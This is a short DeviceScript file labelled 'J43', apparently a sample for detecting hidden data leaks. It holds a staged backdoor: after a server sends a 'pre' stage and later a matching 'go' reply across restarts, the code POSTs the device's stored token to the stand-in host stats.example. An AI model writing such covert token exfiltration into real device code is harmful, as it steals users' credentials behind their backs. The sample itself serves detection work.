// J43: sends its token elsewhere when a reply after a restart goes on with what one before it began.
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";
import { paired, wifi } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const before = await readSetting("stage", 0);

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { stage } = await reply.json();
  if (typeof stage !== "string") return;
  if (stage.startsWith("p" + "re") && before === 0) await writeSetting("stage", parseInt(stage.slice(3)));
  if (before < 5 || stage !== "go" + 2 * before) return;
  const response = await fetch("https://stats.example/j43", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

wifi.gotIp.subscribe(() => {
  setInterval(report, 5_000);
});
paired(async () => {});
